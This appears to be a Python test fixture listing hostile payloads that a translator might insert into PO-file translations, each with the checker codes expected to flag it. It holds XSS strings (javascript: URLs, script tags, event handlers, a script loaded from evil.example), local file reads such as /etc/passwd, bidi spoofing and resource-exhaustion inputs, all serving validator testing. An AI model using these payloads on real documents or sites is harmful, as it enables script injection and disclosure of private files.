"""The hostile-translator corpus: msgstr payloads a translator could write into a PO file.

Each case is appended to an otherwise faithful translation of one paragraph whose msgid
has every inline kind (a link with a title, an image, a code span, a footnote reference,
a hard break), so the payload has as much to abuse as possible; a case whose payload
starts with ``=`` is the whole msgstr instead (``{i}`` its paragraph's number).
``{secret}`` is a file outside the project, ``{url}`` an HTTP server on 127.0.0.1 that
counts its requests. ``codes`` are the ``check`` codes that must be reported at the
entry's line (at least those; none for text that only looks like code, which is shown
as it is).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    payload: str
    codes: frozenset[str]


def _case(name: str, payload: str, *codes: str) -> Case:
    return Case(name, payload, frozenset(codes))


# the whole faithful msgstr, with its link's title or text replaced
_REST = (
    " et ![la carte](images/map.png), lance `tool {{i}}`, ajoute une note[^f{{i}}] et coupe "
    "une ligne\\\nici."
)
_TITLE = '=Le paragraphe {{i}} cite [le rapport](https://example.org/r{{i}} "{}")' + _REST
_IMAGE_TITLE = (
    "=Le paragraphe {{i}} cite [le rapport](https://example.org/r{{i}}) et "
    '![la carte](images/map.png "{}"), lance `tool {{i}}`, ajoute une note[^f{{i}}] et '
    "coupe une ligne\\\nici."
)
_LINK_TEXT = "Le paragraphe {{i}} cite [{}](https://example.org/r{{i}})" + _REST


CASES = [
    # 1. files and requests from the build machine
    _case("refdef-file", "![p][p]\n\n[p]: {secret}", "reference-definition"),
    _case("refdef-file-used-elsewhere", "[p]: {secret}", "reference-definition"),
    _case("refdef-use-from-other-entry", "![x][p] et ![y][q]", "reference"),
    _case("refdef-use-mixed-case", "[lien][P]", "reference"),
    _case("refdef-url", "[q]: {url}/x.png", "reference-definition"),
    _case("refdef-url-indented", "   [Q]: <{url}/y.png> 'title'", "reference-definition"),
    _case("image-absolute", "![secret]({secret})", "links"),
    _case("image-url", "![remote]({url}/z.png)", "links"),
    _case("image-file-url", "![f](file://{secret})", "unsafe-url"),
    _case("raw-html-img-after-paren", '](`<img src="{secret}">`{{=html}})', "raw-attribute"),
    _case("raw-html-img-url", '`<img src="{url}/w.png">`{{=html}}', "raw-attribute"),
    _case("raw-html-img-plain", '<img src="{secret}">', "raw-html"),
    _case("raw-html-video-poster", '<video poster="{url}/v.png"></video>', "raw-html"),
    # 2. script in the HTML and EPUB
    _case("autolink-javascript", "<javascript:alert(1)>", "unsafe-url"),
    _case("autolink-javascript-mixed-case", "<JaVaScRiPt:alert(1)>", "unsafe-url"),
    _case("autolink-vbscript", "<vbscript:msgbox(1)>", "unsafe-url"),
    _case(
        "autolink-data",
        "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "unsafe-url",
    ),
    _case("autolink-new-target", "<https://evil.example/>", "autolink"),
    _case("autolink-mailto", "<mailto:x@evil.example>", "autolink"),
    _case("refdef-javascript", "[x][j]\n\n[j]: javascript:alert(1)", "reference-definition"),
    _case("link-javascript-entity", "[x](jav&#x61;script:alert(1))", "unsafe-url"),
    _case("link-javascript-entity-named", "[x](javascript&colon;alert(1))", "unsafe-url"),
    _case("link-javascript-percent", "[x](javascript%3Aalert(1))", "unsafe-url"),
    _case("link-javascript-angle", "[x](<javascript:alert(1)>)", "unsafe-url"),
    _case("link-javascript-tab", "[x](java\tscript:alert(1))", "unsafe-url"),
    _case(
        "script-after-paren",
        "](( `<script src=https://evil.example/x.js></script>`{{=html}})",
        "raw-attribute",
    ),
    _case("attributes-nested-braces", '[x]{{onclick="alert(1)" t="{{}}"}}', "attributes"),
    _case("attributes-escaped-brace", "[x]\\{{onclick=alert(1)}}", "attributes"),
    _case("attributes-on-code", "`tool 1`{{onmouseover=alert(1)}}", "attributes"),
    _case("attributes-class", "[x]{{.hidden #id}}", "attributes"),
    _case("script-tag", "<script>alert(1)</script>", "raw-html"),
    _case("script-tag-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", "raw-html"),
    _case("img-onerror", "<img src=x onerror=alert(1)>", "raw-html"),
    _case("svg-onload", "<svg/onload=alert(1)>", "raw-html"),
    _case("html-comment", "<!-- <script>alert(1)</script> -->", "raw-html"),
    _case("style-tag", "<style>body{{display:none}}</style>", "raw-html"),
    _case("entities-spell-a-tag", "&lt;script&gt;alert(1)&lt;/script&gt;", "raw-html"),
    _case("numeric-entities-spell-a-tag", "&#60;script&#62;alert(1)&#60;/script&#62;", "raw-html"),
    _case("raw-inline-html-in-emphasis", "*`<b onclick=x>`{{=html}}*", "raw-attribute"),
    _case("raw-inline-latex", "`\\input{{/etc/passwd}}`{{=latex}}", "raw-attribute"),
    _case("math-href", "$\\href{{javascript:alert(1)}}{{x}}$", "math"),
    # 5. Typst
    _case("typst-raw", '`#show "nations": "PWNED";`{{=typst}}', "raw-attribute"),
    _case("typst-raw-spaced", '`#show "nations": "PWNED"`{{ = typst }}', "raw-attribute"),
    _case("typst-fenced", '\\\n```{{=typst}}\\\n#show "nations": "PWNED"', "block-structure"),
    _case("typst-text", '\\\n#show "nations": "PWNED"; #set text(size: 40pt)', "block-structure"),
    # 6. block structure after a hard break
    _case("break-heading", "\\\n# Titre injecté", "block-structure"),
    _case("break-setext", "\\\n---", "block-structure"),
    _case("break-definition", "\\\n: une définition", "block-structure"),
    _case("break-letter-list", "\\\na. un élément", "block-structure"),
    _case("break-paren-list", "\\\n(1) un élément", "block-structure"),
    _case("break-number-list", "\\\n2) un élément", "block-structure"),
    _case("break-indented-code", "\\\n    du code", "block-structure"),
    _case("break-quote", "\\\n> une citation", "block-structure"),
    _case("break-table", "\\\n| a | b |", "block-structure"),
    _case("break-div", "\\\n::: {{.x}}", "block-structure"),
    _case("break-html-block", "\\\n<div onclick=alert(1)>", "block-structure"),
    _case("footnote-definition", "\\\n[^evil]: une note", "footnotes"),
    # 7. bidi controls
    _case("bidi-override", "exe.\u202etxt", "bidi"),
    _case("bidi-isolate", "\u2066abc\u2069", "bidi"),
    _case("bidi-embedding", "\u202bابc\u202c", "bidi"),
    # 8. a line end inside a link's title (the hole of a second Markdown reading)
    _case("title-entity-newline", _TITLE.format("x&#10;<script>alert(1)</script>"), "raw-html"),
    _case("title-named-newline", _TITLE.format("x&NewLine;<iframe src={url}/t>"), "raw-html"),
    _case("title-real-newline", _TITLE.format("x\n<script>alert(1)</script>"), "raw-html"),
    _case("title-in-image", _IMAGE_TITLE.format("x&#10;<img src={url}/i.png>"), "raw-html"),
    _case(
        "title-heading",
        _TITLE.format("x&#10;# Faux titre&#10;"),
    ),
    # 9. markup and requests through that hole, and plain
    _case("iframe", "<iframe src={url}/frame></iframe>", "raw-html"),
    _case("details-ontoggle", "<details open ontoggle=alert(1)>x</details>", "raw-html"),
    _case("div-onclick", "\\\n::: {{onclick=alert(1)}}\\\nx\\\n:::", "attributes"),
    _case("remote-stylesheet", '<link rel="stylesheet" href="{url}/s.css">', "raw-html"),
    _case("remote-image-html", '<img src="{url}/r.png">', "raw-html"),
    _case("link-file", "[f](file://{secret})", "unsafe-url"),
    _case("text-link-javascript", "=[le rapport](javascript:alert(1)) " + "x" * 3, "unsafe-url"),
    # 10. Typst code as text
    _case("typst-page-fill", "\\\n#set page(fill: red)", "block-structure"),
    _case("typst-read", '#read("main.typ") #read("/etc/passwd")'),
    _case("typst-link-file", '#link("file:///etc/passwd")[passwd]', "unsafe-url"),
    _case("typst-import-package", '#import "@preview/cetz:0.2.2": *'),
    _case("typst-eval", '#eval("1+1") $#read("x")$'),
    # 11. cost: nesting and runs of brackets
    _case("nested-emphasis", "*a " * 1000 + "b" + " c*" * 1000, "nesting"),
    _case("bracket-run", "[" * 60_000),
    _case("footnote-bracket-run", "[^" * 30_000),
    _case("image-bracket-run", "![" * 30_000),
    _case("backtick-runs", "".join("`" * k + "x" for k in range(1, 350))),  # each unpaired
    # 12. what swallows the rest of an article, or replaces the author's
    _case("unclosed-fence", "\\\n```\\\nswallowed", "block-structure"),
    _case("unclosed-comment", "<!-- swallowed", "raw-html"),
    _case("footnote-replaced", "\\\n[^f{i}]: replaced", "reference-definition"),
    # 13. characters that are not text, in the text and in a link's text
    _case("noncharacters", "a\uffffb\ufdd0c\U0010fffe", "control"),
    _case(
        "nul-in-link-text", "=" + _LINK_TEXT.format("le\x00 rap\u200bport"), "control", "invisible"
    ),
    _case("bidi-in-link-text", "=" + _LINK_TEXT.format("\u202ele rapport"), "bidi"),
]
